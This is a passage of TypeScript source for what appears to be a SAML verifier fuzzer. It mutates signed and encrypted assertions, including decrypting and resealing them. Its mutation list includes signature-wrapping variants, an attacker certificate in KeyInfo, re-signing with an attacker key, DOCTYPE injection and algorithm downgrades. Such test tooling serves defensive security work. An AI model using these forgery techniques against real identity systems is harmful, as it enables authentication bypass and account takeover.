  const spans = scan(xml);
  const edits: Edit[] = [];
  for (const local of ['DigestValue', 'SignatureValue']) {
    const nodes = Array.from(doc.getElementsByTagNameNS('*', local));
    const found = named(spans, local);
    if (nodes.length !== found.length) return undefined;
    nodes.forEach((node, i) => {
      const text = changed.get(node);
      const s = found[i]!;
      if (text === undefined) return;
      edits.push(s.selfClosing ? { start: s.start, end: s.end, text: `${openTag(s, s.attrs.map((a) => attrText(xml, a)), false)}${text}</${s.qname}>` } : { start: s.openEnd, end: s.closeStart, text });
    });
  }
  return edit(xml, edits);
}

// ---------------------------------------------------------------------------------------------
// Encrypted assertions: open with the SP key, mutate the plaintext, seal again with the same key.

const XENC = 'http://www.w3.org/2001/04/xmlenc#';
const CIPHERS: Record<string, { cipher: string; iv: number; gcm: boolean }> = {
  [`${XENC}aes128-cbc`]: { cipher: 'aes-128-cbc', iv: 16, gcm: false },
  [`${XENC}aes256-cbc`]: { cipher: 'aes-256-cbc', iv: 16, gcm: false },
  'http://www.w3.org/2009/xmlenc11#aes128-gcm': { cipher: 'aes-128-gcm', iv: 12, gcm: true },
  'http://www.w3.org/2009/xmlenc11#aes256-gcm': { cipher: 'aes-256-gcm', iv: 12, gcm: true },
};

export interface Opened {
  plaintext: string;
  /** Seals new plaintext into the same envelope (same wrapped key, an IV drawn from `rng`). */
  seal(plaintext: string, rng: Rng): string;
}

/** The first EncryptedAssertion's plaintext, if the SP key and a known cipher open it. */
export function openEncrypted(xml: string): Opened | undefined {
  const spans = scan(xml);
  const data = named(spans, 'EncryptedData')[0];
  if (!data) return undefined;
  const d = spans.indexOf(data);
  const method = data.children.map((c) => spans[c]!).find((c) => c.local === 'EncryptionMethod')?.attrs.find((a) => a.name === 'Algorithm')?.value;
  const cipher = method === undefined ? undefined : CIPHERS[method];
  const values = named(spans, 'CipherValue').filter((s) => within(spans, spans.indexOf(s), d));
  const keyValue = values.find((s) => named(spans, 'EncryptedKey').some((k) => within(spans, spans.indexOf(s), spans.indexOf(k))));
  const dataValue = values.findLast((s) => s !== keyValue);
  if (!cipher || !keyValue || !dataValue) return undefined;
  try {
    const key = privateDecrypt({ key: keys.sp.privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' }, Buffer.from(xml.slice(keyValue.openEnd, keyValue.closeStart), 'base64'));
    const bytes = Buffer.from(xml.slice(dataValue.openEnd, dataValue.closeStart), 'base64');
    const iv = bytes.subarray(0, cipher.iv);
    let plain: Buffer;
    if (cipher.gcm) {
      const decipher = createDecipheriv(cipher.cipher as CipherGCMTypes, key, iv);
      decipher.setAuthTag(bytes.subarray(bytes.length - 16));
      plain = Buffer.concat([decipher.update(bytes.subarray(cipher.iv, bytes.length - 16)), decipher.final()]);
    } else {
      const decipher = createDecipheriv(cipher.cipher, key, iv).setAutoPadding(false);
      const padded = Buffer.concat([decipher.update(bytes.subarray(cipher.iv)), decipher.final()]);
      plain = padded.subarray(0, padded.length - padded[padded.length - 1]!);
    }
    const seal = (plaintext: string, rng: Rng) => {
      const nextIv = Buffer.from(Array.from({ length: cipher.iv }, () => rng.int(256)));
      const c = createCipheriv(cipher.cipher, key, nextIv);
      const parts = [nextIv, c.update(plaintext, 'utf8'), c.final()];
      if (cipher.gcm) parts.push((c as CipherGCM).getAuthTag());
      return edit(xml, [{ start: dataValue.openEnd, end: dataValue.closeStart, text: Buffer.concat(parts).toString('base64') }]);
    };
    return { plaintext: plain.toString('utf8'), seal };
  } catch {
    return undefined;
  }
}

// ---------------------------------------------------------------------------------------------
// The list.

const DUPLICATED = ['Assertion', 'Signature', 'Reference', 'NameID', 'Attribute', 'Audience', 'SubjectConfirmation', 'EncryptedKey', 'KeyInfo', 'SignedInfo'];

export const MUTATIONS: readonly Mutation[] = [
  { kind: 'attr-reorder', apply: (xml, rng) => {
    const spans = scan(xml).filter((s) => s.attrs.length >= 2);
    if (spans.length === 0) return undefined;
    const s = rng.pick(spans);
    const attrs = shuffled(s.attrs.map((a) => attrText(xml, a)), rng);
    return edit(xml, [{ start: s.start, end: s.openEnd, text: openTag(s, attrs) }]);
  } },
  { kind: 'ws-between-elements', apply: wsBetween },
  { kind: 'ws-in-tag', apply: wsInTag },
  { kind: 'ws-in-text', apply: wsInText },
  { kind: 'self-close-toggle', apply: selfCloseToggle },
  { kind: 'prefix-rename', apply: prefixRename(true) },
  { kind: 'prefix-rename-inconsistent', apply: prefixRename(false) },
  { kind: 'ns-redundant', apply: nsRedundant },
  { kind: 'ns-move-up', apply: nsMove('up') },
  { kind: 'ns-move-down', apply: nsMove('down') },
  { kind: 'ns-undeclare', apply: nsUndeclare },
  { kind: 'comment-in-text', apply: inText(comment) },
  { kind: 'comment-between', apply: between(comment) },
  { kind: 'pi-in-text', apply: inText(instruction) },
  { kind: 'pi-between', apply: between(instruction) },
  { kind: 'cdata-split', apply: cdataSplit },
  { kind: 'char-ref', apply: charRef },
  { kind: 'entity-swap', apply: entitySwap },
  { kind: 'invalid-char', apply: invalidChar },
  { kind: 'attr-whitespace', apply: attrWhitespace },
  ...DUPLICATED.map((local) => ({ kind: `duplicate:${local}`, apply: duplicate(local) })),
  { kind: 'move:assertion-to-extensions', apply: moveAssertionToExtensions },
  { kind: 'move:assertion-to-object', apply: moveAssertionToObject },
  { kind: 'move:signature', apply: moveSignature },
  { kind: 'move:element', apply: moveElement },
  ...['Assertion', 'Signature', 'NameID', 'Subject'].map((local) => ({ kind: `wrap:${local}`, apply: wrap(local) })),
  ...(Object.keys(attack.XSW) as Array<keyof typeof attack.XSW>).map((v) => ({ kind: v, apply: xsw(v) })),
  { kind: 'change-char', apply: changeChar },
  { kind: 'id-change', apply: idChange },
  { kind: 'id-alias', apply: idAlias },
  { kind: 'truncate', apply: truncate },
  { kind: 'many-attributes', apply: manyAttributes },
  { kind: 'attr-duplicate', apply: attrDuplicate },
  { kind: 'deep-nesting', apply: deepNesting },
  { kind: 'doctype', apply: doctype },
  { kind: 'prolog', apply: prolog },
  { kind: 'alg:signature-method', apply: algorithm('SignatureMethod', [ALGORITHMS['rsa-sha1'], ALGORITHMS['rsa-sha512']]) },
  { kind: 'alg:digest-method', apply: algorithm('DigestMethod', [ALGORITHMS.sha1, ALGORITHMS.sha512]) },
  { kind: 'alg:c14n-method', apply: algorithm('CanonicalizationMethod', [ALGORITHMS.c14n, ALGORITHMS.c14nComments, ALGORITHMS.excC14nComments]) },
  { kind: 'alg:transform', apply: algorithm('Transform', [ALGORITHMS.c14n, ALGORITHMS.c14nComments, ALGORITHMS.excC14nComments, ALGORITHMS.excC14n, ALGORITHMS.enveloped]) },
  { kind: 'alg:transform-added', apply: transformAdd },
  { kind: 'alg:transform-removed', apply: transformRemove },
  { kind: 'alg:prefix-list', apply: prefixList },
  { kind: 'keyinfo-attacker-cert', apply: keyInfoAttacker },
  { kind: 'keyinfo-removed', apply: keyInfoRemove },
];

/** Applied by the runner after content mutations, so a change is re-signed as an IdP would send it. */
export const RESIGN: Mutation = { kind: 'resign', apply: (xml) => resign(xml, keys.idp.privateKey) };
export const RESIGN_ATTACKER: Mutation = { kind: 'resign-attacker', apply: (xml) => resign(xml, keys.attacker.privateKey) };

/**
 * `inner:<kind>`: the same mutation on the decrypted assertion, sealed again with the same key;
 * `+resign` re-signs the assertion after it. Only encrypted bases take these.
 */
function inner(mutation: Mutation, resigned: boolean): Mutation {
  return {
    kind: `inner:${mutation.kind}${resigned ? '+resign' : ''}`,
    apply: (xml, rng) => {
      const opened = openEncrypted(xml);
      let plaintext = opened && mutation.apply(opened.plaintext, rng);
      if (plaintext === undefined || !opened) return undefined;
      if (resigned) plaintext = resign(plaintext, keys.idp.privateKey);
      return plaintext === undefined ? undefined : opened.seal(plaintext, rng);
    },
  };
}
export const INNER_MUTATIONS: readonly Mutation[] = MUTATIONS.flatMap((m) => [inner(m, false), inner(m, true)]);
